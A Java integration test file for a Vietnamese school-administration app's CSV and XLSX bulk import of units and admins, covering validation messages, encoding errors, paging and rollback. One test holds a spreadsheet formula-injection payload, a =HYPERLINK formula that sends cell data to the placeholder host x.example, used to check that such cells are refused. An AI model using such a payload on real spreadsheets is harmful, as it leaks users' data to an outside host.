package vn.lantoa.onboarding;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import vn.lantoa.people.UserRepository;
import vn.lantoa.people.UserStatus;
import vn.lantoa.tenancy.MembershipRepository;
import vn.lantoa.tenancy.Role;
import vn.lantoa.tenancy.UnitType;
import vn.lantoa.testing.Browser;
import vn.lantoa.testing.Fixtures;
import vn.lantoa.testing.Mailbox;
import vn.lantoa.testing.Page;
import vn.lantoa.testing.TestServers;
import vn.lantoa.unit.Unit;
import vn.lantoa.unit.UnitRepository;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ImportTest {

    @Inject
    EmbeddedServer server;
    @Inject
    Fixtures fixtures;
    @Inject
    UnitRepository units;
    @Inject
    UserRepository users;
    @Inject
    MembershipRepository memberships;
    @Inject
    ImportJobRepository jobs;

    Fixtures.World world;

    @BeforeAll
    void world() {
        world = fixtures.world();
    }

    @Test
    void aProvinceImportsDistrictsSchoolsAndTheirAdminsFromCsv() {
        String t = world.tag();
        String csv = "Mã,Tên đơn vị,Tên viết tắt,Loại,Cấp học,Đơn vị cấp trên,Điện thoại,Email quản trị,Họ tên quản trị\n"
                + "phong-nhap-" + t + ",Phòng GDĐT Huyện Nhập " + t + ",,Phòng GDĐT,,,0262 3333 444,qt-phong-" + t + "@example.edu.vn,Nguyễn Văn Phòng\n"
                + ",Trường Mầm non Nhập " + t + ",MN Nhập,Trường,Mầm non,phong-nhap-" + t + ",,hieutruong-mn-" + t + "@example.edu.vn,Trần Thị Mầm\n"
                + ",\"Trường THCS Nhập, Số 2 " + t + "\",,Trường,THCS,phong-nhap-" + t + ",,,\n";
        Browser admin = new Browser(server.getURI()).signIn(world.adminP().email(), Fixtures.PASSWORD);

        Page preview = preview(admin, world.p().id(), "don-vi.csv", csv.getBytes(StandardCharsets.UTF_8));
        assertThat(preview.text()).contains("Tất cả 3 dòng hợp lệ");
        assertThat(units.findByParentIdOrderByName(world.p().id())).noneMatch(u -> u.name().contains("Nhập " + t));

        confirmAndWait(admin, preview);

        Unit district = units.findByParentIdOrderByName(world.p().id()).stream().filter(u -> u.slug().equals("phong-nhap-" + t)).findFirst().orElseThrow();
        assertThat(district.type()).isEqualTo(UnitType.DISTRICT_OFFICE);
        List<Unit> schools = units.findByParentIdOrderByName(district.id());
        assertThat(schools).extracting(Unit::name).containsExactlyInAnyOrder("Trường Mầm non Nhập " + t, "Trường THCS Nhập, Số 2 " + t);
        var head = users.findByEmail("hieutruong-mn-" + t + "@example.edu.vn").orElseThrow();
        assertThat(head.status()).isEqualTo(UserStatus.INVITED);
        Unit preschool = schools.stream().filter(u -> u.name().startsWith("Trường Mầm non")).findFirst().orElseThrow();
        assertThat(memberships.existsByUnitIdAndUserIdAndRole(preschool.id(), head.id(), Role.UNIT_ADMIN)).isTrue();
        assertThat(Mailbox.await("qt-phong-" + t + "@example.edu.vn", 1).text()).contains("/invitation?token=");
    }

    @Test
    void anXlsxFileImportsTheSameWay() throws IOException {
        String t = world.tag();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Workbook wb = new Workbook(out, "test", "1.0");
        Worksheet ws = wb.newWorksheet("Sheet1");
        List<List<String>> rows = List.of(List.of("Tên đơn vị", "Loại", "Cấp học"), List.of("Trường Tiểu học Excel " + t, "Trường", "Tiểu học"));
        for (int r = 0; r < rows.size(); r++) {
            for (int c = 0; c < rows.get(r).size(); c++) {
                ws.value(r, c, rows.get(r).get(c));
            }
        }
        wb.finish();
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page preview = preview(admin, world.d().id(), "don-vi.xlsx", out.toByteArray());
        confirmAndWait(admin, preview);

        assertThat(units.findByParentIdOrderByName(world.d().id())).anyMatch(u -> u.name().equals("Trường Tiểu học Excel " + t));
    }

    @Test
    void everyBadLineIsReportedOnItsLineAndNothingCanBeImported() {
        String t = world.tag();
        String csv = "Tên đơn vị,Loại,Cấp học,Đơn vị cấp trên,Email quản trị,Họ tên quản trị\n"
                + "Trường Tốt " + t + ",Trường,THCS,,,\n"
                + ",Trường,THCS,,,\n"
                + "Trường Sai Cấp " + t + ",Trường,Đại học,,,\n"
                + "Trường Sai Email " + t + ",Trường,TH,,khong-phai-email,Ai Đó\n"
                + "Trường Không Cha " + t + ",Trường,TH,khong-co-don-vi-nay,,\n"
                + "Trường Sai Loại " + t + ",Vũ trụ,,,,\n";
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        long before = units.countByParentId(world.d().id());

        Page preview = preview(admin, world.d().id(), "loi.csv", csv.getBytes(StandardCharsets.UTF_8));

        assertThat(preview.text()).contains("Có 5 dòng chưa hợp lệ");
        assertThat(preview.doc().select("tbody tr")).hasSize(6);
        assertThat(preview.doc().select("tbody tr").get(1).text()).contains("Vui lòng nhập tên đơn vị");
        assertThat(preview.doc().select("tbody tr").get(2).text()).contains("Vui lòng chọn cấp học");
        assertThat(preview.doc().select("tbody tr").get(3).text()).contains("Email không hợp lệ");
        assertThat(preview.doc().select("tbody tr").get(4).text()).contains("Không tìm thấy đơn vị cấp trên \"khong-co-don-vi-nay\"");
        assertThat(preview.doc().select("tbody tr").get(5).text()).contains("Vui lòng chọn loại đơn vị");
        assertThat(preview.doc().select("form[action*=confirm]")).isEmpty();

        long jobId = jobId(preview);
        admin.get("/account");
        Page forced = admin.post("/admin/u/" + world.d().id() + "/import/" + jobId + "/confirm", Map.of());
        assertThat(forced.status()).isEqualTo(400);
        assertThat(units.countByParentId(world.d().id())).isEqualTo(before);
    }

    @Test
    void unreadableFilesAreRefusedWithAReason() {
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        String url = "/admin/u/" + world.d().id() + "/import";

        assertThat(error(admin.upload(url, "file", "x.csv", "Tên đơn vị,Loại\n\"không đóng ngoặc,Trường\n".getBytes(StandardCharsets.UTF_8), "text/csv")))
                .startsWith("Tệp CSV sai định dạng");
        assertThat(error(admin.upload(url, "file", "x.csv", new byte[]{(byte) 0xff, (byte) 0xfe, 'a', 0, 'b'}, "text/csv")))
                .contains("UTF-8");
        assertThat(error(admin.upload(url, "file", "x.csv", "Cột A,Cột B\n1,2\n".getBytes(StandardCharsets.UTF_8), "text/csv")))
                .contains("Thiếu cột bắt buộc");
        assertThat(error(admin.upload(url, "file", "x.xlsx", "PK\u0003\u0004 not really a zip".getBytes(StandardCharsets.ISO_8859_1),
                "application/octet-stream"))).contains("Tệp Excel bị hỏng");
        assertThat(error(admin.upload(url, "file", "x.csv", "Tên đơn vị,Loại\n".getBytes(StandardCharsets.UTF_8), "text/csv")))
                .contains("chỉ có dòng tiêu đề");
    }

    @Test
    void malformedCsvFilesAreRefusedInVietnameseNamingTheLine() {
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        String url = "/admin/u/" + world.d().id() + "/import";
        byte[] threeLines = "Tên đơn vị,Loại\nTrường A,Trường\nTrường Bình Minh,Trường\n".getBytes(StandardCharsets.UTF_8);
        // Line 3 as a Windows-1258 ("ANSI") file writes "Trường": not UTF-8.
        byte[] legacyLine3 = concat("Tên đơn vị,Loại\nTrường A,Trường\n".getBytes(StandardCharsets.UTF_8),
                new byte[]{'T', 'r', (byte) 0xDD, (byte) 0xF4, 'n', 'g', ',', 'x', '\n'});

        String unclosed = error(admin.upload(url, "file", "x.csv",
                "Tên đơn vị,Loại\nTrường Một,Trường\n\n\"Trường Hai,Trường\nTrường Ba,Trường\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
        String strayQuote = error(admin.upload(url, "file", "x.csv",
                "Tên đơn vị,Loại\n\"Trường Một\" cũ,Trường\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
        String encoding = error(admin.upload(url, "file", "x.csv", legacyLine3, "text/csv"));
        String junk = error(admin.upload(url, "file", "x.csv", concat(threeLines, new byte[]{0x00, 0x13, (byte) 0x89, 'P', 'N', 'G'}), "text/csv"));
        String empty = error(admin.upload(url, "file", "x.csv", new byte[0], "text/csv"));
        String blank = error(admin.upload(url, "file", "x.csv", "\uFEFF \r\n\r\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
        String noType = error(admin.upload(url, "file", "x.csv", "Tên đơn vị,Cấp học\nTrường A,TH\n".getBytes(StandardCharsets.UTF_8), "text/csv"));

        assertThat(unclosed).startsWith("Tệp CSV sai định dạng ở dòng 4:").contains("dấu ngoặc kép");
        assertThat(strayQuote).startsWith("Tệp CSV sai định dạng ở dòng 2:");
        assertThat(encoding).contains("UTF-8").contains("dòng 3");
        assertThat(junk).contains("dòng 4").contains("CSV UTF-8");
        assertThat(empty).isEqualTo("Tệp rỗng.");
        assertThat(blank).isEqualTo("Tệp không có dữ liệu.");
        assertThat(noType).isEqualTo("Thiếu cột bắt buộc ở dòng tiêu đề (dòng 1): “Loại”.");
        for (String message : List.of(unclosed, strayQuote, encoding, junk, empty, blank, noType)) {
            assertThat(message).doesNotContainIgnoringCase("exception").doesNotContain("EOF").doesNotContain("encapsulated").doesNotContain("token");
        }
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreRefusedByColumn() {
        String t = world.tag();
        String csv = "Tên đơn vị,Tên viết tắt,Loại,Cấp học,Địa chỉ,Điện thoại,Email quản trị,Họ tên quản trị\n"
                + "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",,Trường,TH,,,,\n"
                + "Trường Công Thức " + t + ",+1+1,Trường,TH,-2+3,,,\n"
                + "Trường Hợp Lệ " + t + ",,Trường,TH,Số 1 Lê Lợi,+84 912 345 678,,\n"
                + "Trường Quản Trị " + t + ",,Trường,TH,,,ai-" + t + "@example.edu.vn,@SUM(1)\n";
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page preview = preview(admin, world.d().id(), "cong-thuc.csv", csv.getBytes(StandardCharsets.UTF_8));

        var rows = preview.doc().select("tbody tr");
        assertThat(preview.text()).contains("Có 3 dòng chưa hợp lệ");
        assertThat(rows.get(0).text()).contains("Cột Tên đơn vị: Ô bắt đầu bằng \"=\" nên bảng tính sẽ hiểu là công thức");
        assertThat(rows.get(1).text()).contains("Cột Tên viết tắt: Ô bắt đầu bằng \"+\"").contains("Cột Địa chỉ: Ô bắt đầu bằng \"-\"");
        assertThat(rows.get(2).text()).contains("Hợp lệ");
        assertThat(rows.get(3).text()).contains("Cột Họ tên quản trị: Ô bắt đầu bằng \"@\"");
    }

    @Test
    void aFormulaInAnXlsxCellIsRefusedInsteadOfItsLastValue() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Workbook wb = new Workbook(out, "test", "1.0");
        Worksheet ws = wb.newWorksheet("Sheet1");
        ws.value(0, 0, "Tên đơn vị");
        ws.value(0, 1, "Loại");
        ws.value(0, 2, "Cấp học");
        ws.formula(1, 0, "CONCATENATE(\"Trường \",\"Tiểu học\")");
        ws.value(1, 1, "Trường");
        ws.value(1, 2, "TH");
        wb.finish();
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page preview = preview(admin, world.d().id(), "cong-thuc.xlsx", out.toByteArray());

        assertThat(preview.doc().select("tbody tr").get(0).text()).contains("Cột Tên đơn vị: Ô bắt đầu bằng \"=\"");
    }

    @Test
    void namesInAFileTypedWithDecomposedToneMarksAreStoredComposed() {
        String t = world.tag();
        String name = "Trường Tiểu học Nguyễn Trường Tộ " + t;
        String admin = "Lê Thị Hường";
        String csv = "Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n" + Normalizer.normalize(name, Normalizer.Form.NFD)
                + ",Trường,TH,nfd-" + t + "@example.edu.vn," + Normalizer.normalize(admin, Normalizer.Form.NFD) + "\n";
        Browser browser = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page preview = preview(browser, world.d().id(), "nfd.csv", csv.getBytes(StandardCharsets.UTF_8));
        confirmAndWait(browser, preview);

        Unit stored = units.findByParentIdOrderByName(world.d().id()).stream().filter(u -> u.name().endsWith("Tộ " + t)).findFirst().orElseThrow();
        assertThat(stored.name().getBytes(StandardCharsets.UTF_8)).isEqualTo(name.getBytes(StandardCharsets.UTF_8));
        assertThat(users.findByEmail("nfd-" + t + "@example.edu.vn").orElseThrow().fullName().getBytes(StandardCharsets.UTF_8))
                .isEqualTo(admin.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void aLongPreviewIsPagedAndTheErrorFilterFindsTheBadLinesOnLaterPages() {
        String t = world.tag();
        StringBuilder csv = new StringBuilder("Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n");
        for (int i = 1; i <= 250; i++) {
            // File line i + 1; line 151 (on the second page of a hundred) has a bad address.
            String email = i == 150 ? "khong-phai-email" : "";
            csv.append("Trường Dòng ").append(i).append(' ').append(t).append(",Trường,TH,").append(email).append(',')
                    .append(i == 150 ? "Ai Đó" : "").append('\n');
        }
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page first = preview(admin, world.d().id(), "dai.csv", csv.toString().getBytes(StandardCharsets.UTF_8));
        String jobPage = "/admin/u/" + world.d().id() + "/import/" + jobId(first);
        Page second = admin.get(jobPage + "?page=2");
        Page onlyErrors = admin.get(jobPage + "?page=1&loi=1");

        assertThat(first.doc().select("tbody tr")).hasSize(100);
        assertThat(first.text()).contains("Có 1 dòng chưa hợp lệ").doesNotContain("khong-phai-email").contains("Trang 1/3");
        assertThat(first.doc().select("nav.tabs a:contains(Chỉ dòng có lỗi)").attr("href")).isEqualTo("?page=1&loi=1#lines");
        assertThat(first.doc().select("nav.tabs a:contains(Chỉ dòng có lỗi) .tag").text()).isEqualTo("1");
        assertThat(second.doc().select("tbody tr td.num").eachText()).contains("151");
        assertThat(onlyErrors.status()).isEqualTo(200);
        assertThat(onlyErrors.doc().select("tbody tr")).hasSize(1);
        assertThat(onlyErrors.doc().select("tbody tr").text()).contains("151").contains("Cột Email quản trị: Email không hợp lệ");
        assertThat(admin.get(jobPage + "?page=99").doc().select("tbody tr td.num").first().text()).isEqualTo("202");
    }

    @Test
    void aPreviewOfFiveThousandLinesIsALightPage() {
        String t = world.tag();
        StringBuilder csv = new StringBuilder("Mã,Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n");
        for (int i = 1; i <= SheetReader.MAX_ROWS; i++) {
            csv.append("nam-nghin-").append(i).append('-').append(t).append(",Trường Tiểu học Số ").append(i).append(" xã Ea Kao ").append(t)
                    .append(",Trường,TH,hieutruong").append(i).append('-').append(t).append("@example.edu.vn,Nguyễn Văn Hiệu Trưởng ").append(i).append('\n');
        }
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);

        Page preview = preview(admin, world.d().id(), "nam-nghin.csv", csv.toString().getBytes(StandardCharsets.UTF_8));

        assertThat(preview.text()).contains("Tất cả 5.000 dòng hợp lệ");
        assertThat(preview.doc().select("tbody tr")).hasSize(100);
        System.out.println("Import preview of 5,000 lines, first page: " + preview.bytes().length + " bytes");
        assertThat(preview.bytes().length).isLessThan(100_000);
    }

    @Test
    void afterTheImportThePageFollowsTheInvitationQueueInsteadOfClaimingTheMailWasSent() {
        String t = world.tag();
        String csv = "Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n"
                + "Trường Hàng Đợi Một " + t + ",Trường,TH,hd1-" + t + "@example.edu.vn,Người Một\n"
                + "Trường Hàng Đợi Hai " + t + ",Trường,TH,hd2-" + t + "@example.edu.vn,Người Hai\n"
                + "Trường Không Quản Trị " + t + ",Trường,TH,,\n";
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        Page preview = preview(admin, world.d().id(), "hang-doi.csv", csv.getBytes(StandardCharsets.UTF_8));
        long jobId = jobId(preview);
        String jobPage = "/admin/u/" + world.d().id() + "/import/" + jobId;

        Page done = confirmAndWait(admin, preview);
        assertThat(done.text()).contains("Đã nhập xong 3 đơn vị").doesNotContain("đã được gửi email mời");
        assertThat(done.doc().select("[data-queue-url]").attr("data-queue-url")).endsWith("/import/" + jobId + "/invitations");

        Mailbox.await("hd1-" + t + "@example.edu.vn", 1);
        Mailbox.await("hd2-" + t + "@example.edu.vn", 1);
        awaitQueue(admin, jobPage, 0);
        assertThat(admin.get(jobPage).text()).contains("Đã gửi 2/2 thư mời; 0 thư đang chờ trong hàng đợi; 0 thư không gửi được.")
                .contains("Đã gửi tất cả thư mời.");

        // The same two invitations as the page shows them while the queue is still working through them, then when one failed.
        TestServers.sql("UPDATE mail_outbox SET status = 'PENDING', sent_at = NULL, next_attempt_at = '2100-01-01' WHERE batch = 'import-" + jobId + "'");
        Page waiting = admin.get(jobPage);
        assertThat(waiting.text()).contains("Đã gửi 0/2 thư mời; 2 thư đang chờ trong hàng đợi").contains("trang này tự cập nhật");
        assertThat(waiting.doc().select("[data-queue-url]").attr("data-queued")).isEqualTo("2");
        assertThat(admin.get(jobPage + "/invitations", "application/json").body()).contains("\"queued\":2").contains("\"sent\":0");

        TestServers.sql("UPDATE mail_outbox SET status = 'FAILED' WHERE batch = 'import-" + jobId + "' AND to_address = 'hd1-" + t + "@example.edu.vn'");
        TestServers.sql("UPDATE mail_outbox SET status = 'SENT' WHERE batch = 'import-" + jobId + "' AND to_address = 'hd2-" + t + "@example.edu.vn'");
        assertThat(admin.get(jobPage).text()).contains("Đã gửi 1/2 thư mời; 0 thư đang chờ trong hàng đợi; 1 thư không gửi được.")
                .contains("mời lại");
    }

    /** The outbox dispatcher sends the invitations in the background: wait until the page's count shows it. */
    private void awaitQueue(Browser admin, String jobPage, int queued) {
        org.awaitility.Awaitility.await("the invitations leave the queue").atMost(java.time.Duration.ofSeconds(10))
                .until(() -> admin.get(jobPage + "/invitations", "application/json").body().contains("\"queued\":" + queued));
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    @Test
    void aFailureDuringTheImportRollsBackEveryLine() {
        String t = world.tag();
        String csv = "Mã,Tên đơn vị,Loại,Cấp học\n"
                + "roll-a-" + t + ",Trường Một " + t + ",Trường,TH\n"
                + "roll-b-" + t + ",Trường Hai " + t + ",Trường,TH\n";
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        Page preview = preview(admin, world.d().id(), "roll.csv", csv.getBytes(StandardCharsets.UTF_8));
        // Between the check and the import, someone takes the second code.
        fixtures.unit(fixtures.actor(world.platformAdmin()), world.q().id(), "Chen ngang " + t, UnitType.SCHOOL, vn.lantoa.tenancy.SchoolLevel.TH);
        TestServers.sql("UPDATE unit SET slug = 'roll-b-" + t + "' WHERE name = 'Chen ngang " + t + "'");

        Page result = confirmAndWait(admin, preview);

        assertThat(result.text()).contains("Không nhập được; không có thay đổi nào được lưu").contains("Dòng 3");
        assertThat(units.existsBySlug("roll-a-" + t)).isFalse();
        assertThat(jobs.findByUnitIdAndId(world.d().id(), jobId(preview)).orElseThrow().status()).isEqualTo(ImportStatus.FAILED);
    }

    @Test
    void theTemplatesDownloadAndPassTheirOwnCheck() {
        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
        Page csv = admin.get("/admin/u/" + world.d().id() + "/import/template.csv");
        Page xlsx = admin.get("/admin/u/" + world.d().id() + "/import/template.xlsx");

        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.body()).contains("Tên đơn vị");
        assertThat(xlsx.status()).isEqualTo(200);
        assertThat(new String(xlsx.bytes(), 0, 2, StandardCharsets.ISO_8859_1)).isEqualTo("PK");
        // The template's own codes are not taken yet in this tree, so its example lines check out.
        assertThat(preview(admin, world.d().id(), "mau.xlsx", xlsx.bytes()).text()).contains("Tất cả 3 dòng hợp lệ");
    }

    private Page preview(Browser admin, long unitId, String name, byte[] content) {
        Page upload = admin.upload("/admin/u/" + unitId + "/import", "file", name, content, "text/csv");
        assertThat(upload.status()).as(upload.text()).isEqualTo(303);
        return admin.get(upload.location());
    }

    private Page confirmAndWait(Browser admin, Page preview) {
        long jobId = jobId(preview);
        String base = preview.doc().select("form[action*=confirm]").attr("action");
        Page confirmed = admin.postRaw(base, Map.of());
        assertThat(confirmed.status()).isEqualTo(303);
        // The import runs in the background; its page says "Đang nhập" until it is done.
        return org.awaitility.Awaitility.await("import " + jobId + " finishes").atMost(java.time.Duration.ofSeconds(20))
                .until(() -> admin.get(confirmed.location()), page -> !page.text().contains("Đang nhập"));
    }

    private static long jobId(Page preview) {
        String action = preview.doc().select("form[action*=cancel]").attr("action");
        String path = action.substring(0, action.indexOf("/cancel"));
        return Long.parseLong(path.substring(path.lastIndexOf('/') + 1));
    }

    private static String error(Page page) {
        assertThat(page.status()).isEqualTo(422);
        return page.doc().select("#e-file").text();
    }
}
